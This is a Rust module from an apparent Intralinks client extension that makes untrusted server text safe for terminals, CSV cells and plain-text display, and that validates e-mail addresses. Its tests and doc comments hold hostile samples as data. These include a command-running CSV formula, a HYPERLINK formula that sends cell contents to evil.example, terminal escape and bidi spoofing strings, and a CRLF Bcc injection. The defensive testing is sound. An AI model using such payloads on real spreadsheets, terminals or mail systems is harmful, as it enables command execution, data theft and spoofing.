//! Text that came from a server or a disk, made safe for where it is shown.
//!
//! Names, messages and splash text are chosen by whoever controls the room or
//! the server. Printed raw, an `ESC` sequence can retitle or clear a terminal,
//! plant a link (OSC 8) or hide text (CR, C1 `0x9B`, bidi overrides); written
//! raw into a CSV cell, `=cmd|' /C calc'!A0` is a formula a spreadsheet runs.
//!
//! - [`for_terminal`] makes one line safe for a terminal or a log line for people;
//!   [`for_terminal_text`] does the same for text that may span lines (splash
//!   text, a server's error message), keeping line breaks and tabs.
//! - [`csv_cell`] neutralises a spreadsheet formula as OWASP's "CSV Injection"
//!   page recommends: a cell that begins with `=`, `+`, `-`, `@`, TAB or CR gets
//!   a leading `'`, so the spreadsheet shows it as text.
//!
//! JSON output needs neither: its own escaping is exact.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Characters that change how text displays without being visible:
/// bidirectional embeddings, overrides, isolates and marks.
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// Whether `c` must not reach a terminal as it is: C0 controls (newline and
/// tab included), DEL, C1 controls and bidi controls.
fn unsafe_on_terminal(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

fn escape_into(out: &mut String, c: char) {
    let n = c as u32;
    if n <= 0xFF {
        let _ = write!(out, "\\x{n:02x}");
    } else {
        let _ = write!(out, "\\u{{{n:04x}}}");
    }
}

fn escaped(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| unsafe_on_terminal(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if unsafe_on_terminal(c) && !keep(c) {
            escape_into(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One line for a terminal: every control character (newline, tab, `ESC`,
/// DEL, C1) and bidi control is shown as a visible escape (`\x1b`,
/// `\u{202e}`), so nothing the text contains can act on the terminal or hide
/// part of the line. Text without such characters is returned unchanged.
///
/// ```
/// use intralinks_ext::text::for_terminal;
/// assert_eq!(for_terminal("Q3\u{1b}]0;owned\u{7}.pdf"), "Q3\\x1b]0;owned\\x07.pdf");
/// assert_eq!(for_terminal("Übersicht – DD.txt"), "Übersicht – DD.txt");
/// ```
pub fn for_terminal(s: &str) -> Cow<'_, str> {
    escaped(s, |_| false)
}

/// Text that may span lines, for a terminal: as [`for_terminal`], but line
/// feeds and tabs are kept. A carriage return is escaped, since it lets a line
/// overwrite what came before it.
///
/// ```
/// use intralinks_ext::text::for_terminal_text;
/// assert_eq!(for_terminal_text("line 1\nline 2\r\u{9b}2J"), "line 1\nline 2\\x0d\\x9b2J");
/// ```
pub fn for_terminal_text(s: &str) -> Cow<'_, str> {
    escaped(s, |c| c == '\n' || c == '\t')
}

/// A text cell for CSV that a spreadsheet will not read as a formula: a cell
/// beginning with `=`, `+`, `-`, `@`, TAB or CR (or their full-width forms)
/// gets a leading `'`, as OWASP's "CSV Injection" page recommends. Quoting and
/// embedded quotes are the CSV writer's job.
///
/// ```
/// use intralinks_ext::text::csv_cell;
/// assert_eq!(csv_cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
/// assert_eq!(csv_cell("Ann"), "Ann");
/// ```
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}',
        ) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// Splash text (HTML, as room owners write it) as plain text for a person:
/// tags removed, line breaks where `<br>`, paragraphs, list items and
/// headings end, the common character references decoded, blank runs
/// collapsed. Not a renderer: enough to read what one is asked to accept.
/// Control characters are left to [`for_terminal_text`].
///
/// ```
/// use intralinks_ext::text::html_to_text;
/// assert_eq!(
///     html_to_text("<p>Terms &amp; conditions</p><ul><li>one</li><li>two</li></ul>"),
///     "Terms & conditions\n- one\n- two"
/// );
/// ```
pub fn html_to_text(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(at) = rest.find(['<', '&']) {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        if rest.starts_with('<') {
            let end = rest.find('>').map_or(rest.len(), |e| e + 1);
            let inner = &rest[1..end];
            let tag = inner
                .strip_suffix('>')
                .unwrap_or(inner)
                .trim_start_matches('/')
                .split(|c: char| c.is_whitespace() || c == '/')
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            match tag.as_str() {
                "br" | "p" | "div" | "tr" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "ul"
                | "ol" => out.push('\n'),
                "li" if !rest.starts_with("</") => out.push_str("\n- "),
                "script" | "style" if !rest.starts_with("</") => {
                    // Their content is not text.
                    // Scanned only as far as the closing tag, in any case.
                    let close = format!("</{tag}");
                    let skip = rest
                        .as_bytes()
                        .windows(close.len())
                        .position(|w| w.eq_ignore_ascii_case(close.as_bytes()))
                        .unwrap_or(rest.len());
                    rest = &rest[skip..];
                    continue;
                }
                _ => {}
            }
            rest = &rest[end..];
        } else {
            // A reference is short: look for its `;` among the next few
            // characters (by character, so a multi-byte one is never cut).
            let end = rest
                .char_indices()
                .take(12)
                .find(|&(_, c)| c == ';')
                .map(|(i, _)| i);
            let decoded = end.and_then(|e| decode_reference(&rest[1..e]));
            match (end, decoded) {
                (Some(e), Some(c)) => {
                    out.push(c);
                    rest = &rest[e + 1..];
                }
                _ => {
                    out.push('&');
                    rest = &rest[1..];
                }
            }
        }
    }
    out.push_str(rest);
    // Collapse runs of spaces and of blank lines; trim each line.
    let mut text = String::with_capacity(out.len());
    for line in out.lines() {
        let line = line.split_whitespace().collect::<Vec<_>>().join(" ");
        if line.is_empty() {
            continue;
        }
        // A paragraph break is one line break: compact, and still readable.
        if !text.is_empty() {
            text.push('\n');
        }
        text.push_str(&line);
    }
    text
}

/// A character reference's character: `amp`, `#38`, `#x26`, ...
fn decode_reference(name: &str) -> Option<char> {
    match name {
        "amp" => Some('&'),
        "lt" => Some('<'),
        "gt" => Some('>'),
        "quot" => Some('"'),
        "apos" | "#39" => Some('\''),
        "nbsp" => Some(' '),
        "ndash" => Some('–'),
        "mdash" => Some('—'),
        "hellip" => Some('…'),
        "copy" => Some('©'),
        "reg" => Some('®'),
        _ => {
            let number = name.strip_prefix('#')?;
            let code = match number.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                None => number.parse().ok()?,
            };
            char::from_u32(code)
        }
    }
}

/// A server-sent body as an error may quote it: whitespace collapsed, at
/// most 160 characters (an ellipsis marks the cut), and every secret the
/// process knows of, or any field that names one, masked.
pub fn excerpt(body: &str) -> String {
    let collapsed: String = body.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut cut: String = collapsed.chars().take(160).collect();
    if collapsed.chars().count() > 160 {
        cut.push('…');
    }
    intralinks_api::mask_secrets(&cut)
}

/// Whether `s` is one e-mail address a person may be invited with: an
/// RFC 5321 mailbox in its common form, `local@domain`, checked strictly
/// before anything is sent — a dot-atom local part (letters, digits and
/// ``!#$%&'*+/=?^_`{|}~-``, dots between them; at most 64 bytes), a domain
/// of two or more labels (letters, digits, inner hyphens; each at most 63
/// bytes), at most 254 bytes in all, and nothing else: no spaces, controls,
/// display names (`<a@b>`), `mailto:`, or a second address.
pub fn is_email_address(s: &str) -> bool {
    let Some((local, domain)) = s.split_once('@') else {
        return false;
    };
    let atom = |a: &str| {
        !a.is_empty()
            && a.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+/=?^_`{|}~-".contains(&b))
    };
    let label = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    s.len() <= 254
        && local.len() <= 64
        && local.split('.').all(atom)
        && domain.split('.').count() >= 2
        && domain.split('.').all(label)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_one_plain_address_is_an_email_address() {
        for good in [
            "ann@lp.example",
            "Ann.O'Neil+deals@fund-1.example.com",
            "x@a.b",
        ] {
            assert!(is_email_address(good), "{good}");
        }
        for bad in [
            "a@",
            "@b.example",
            "a b@c.example",
            "<a@b.example>",
            "a@b.example, c@d.example",
            "a@b.example;c@d.example",
            "mailto:a@b.example",
            "a@b",
            "a..b@c.example",
            ".a@c.example",
            "a@-c.example",
            "a@c.example\r\nBcc: x@y.example",
            "a\t@c.example",
            "a\u{1b}[2J@c.example",
            "\"a\"@c.example",
            "é@c.example",
            "",
        ] {
            assert!(!is_email_address(bad), "{bad:?}");
        }
        let long = format!("{}@c.example", "a".repeat(65));
        assert!(!is_email_address(&long));
    }

    #[test]
    fn splash_html_reads_as_text() {
        assert_eq!(
            html_to_text(
                "<html><head><style>p{color:red}</style></head><body><h1>Welcome</h1><p>By entering you agree to the <b>NDA</b>.<br/>Questions: deals&#64;example.com</p></body></html>"
            ),
            "Welcome\nBy entering you agree to the NDA.\nQuestions: deals@example.com"
        );
        assert_eq!(
            html_to_text("a &lt;b&gt; &unknown; & c"),
            "a <b> &unknown; & c"
        );
        assert_eq!(html_to_text("plain text\nkept"), "plain text\nkept");
        assert_eq!(html_to_text("<script>alert(1)</script>ok"), "ok");
        assert_eq!(html_to_text("unclosed <b"), "unclosed");
        // Server text cut anywhere, in any script, never panics.
        assert_eq!(html_to_text("<bé"), "");
        assert_eq!(html_to_text("a &ééééééééé; b"), "a &ééééééééé; b");
        assert_eq!(html_to_text("x<SCRIPT>1</Script>y"), "xy");
        assert_eq!(
            html_to_text("&#x1F600; &#99999999;"),
            "\u{1F600} &#99999999;"
        );
    }

    #[test]
    fn every_control_class_is_escaped() {
        assert_eq!(for_terminal("a\u{1b}[2Jb"), "a\\x1b[2Jb");
        assert_eq!(for_terminal("a\rb"), "a\\x0db");
        assert_eq!(for_terminal("a\nb\tc"), "a\\x0ab\\x09c");
        assert_eq!(for_terminal("a\u{7f}b"), "a\\x7fb");
        assert_eq!(for_terminal("a\u{9b}31mb"), "a\\x9b31mb");
        assert_eq!(for_terminal("cod.\u{202e}fdp.exe"), "cod.\\u{202e}fdp.exe");
        assert_eq!(
            for_terminal("\u{1b}]8;;http://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\"),
            "\\x1b]8;;http://evil.example\\x1b\\x\\x1b]8;;\\x1b\\"
        );
        for s in ["\u{1b}", "\u{0}", "\u{85}", "\u{2066}", "\u{61c}"] {
            let out = for_terminal(s);
            assert!(!out.chars().any(unsafe_on_terminal), "{out:?}");
        }
    }

    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(
            for_terminal("Financials/FY2023"),
            Cow::Borrowed(_)
        ));
        assert!(matches!(for_terminal_text("a\nb"), Cow::Borrowed(_)));
        assert!(matches!(csv_cell("Demo API Workspace"), Cow::Borrowed(_)));
    }

    #[test]
    fn formulas_are_neutralised() {
        assert_eq!(csv_cell("+Ann"), "'+Ann");
        assert_eq!(csv_cell("@Org"), "'@Org");
        assert_eq!(csv_cell("-1+1"), "'-1+1");
        assert_eq!(csv_cell("\r=1+1"), "'\r=1+1");
        assert_eq!(csv_cell("\t=1"), "'\t=1");
        assert_eq!(csv_cell("\u{FF1D}1+1"), "'\u{FF1D}1+1");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
        );
        assert_eq!(csv_cell(""), "");
        assert_eq!(csv_cell("a=b"), "a=b");
    }
}
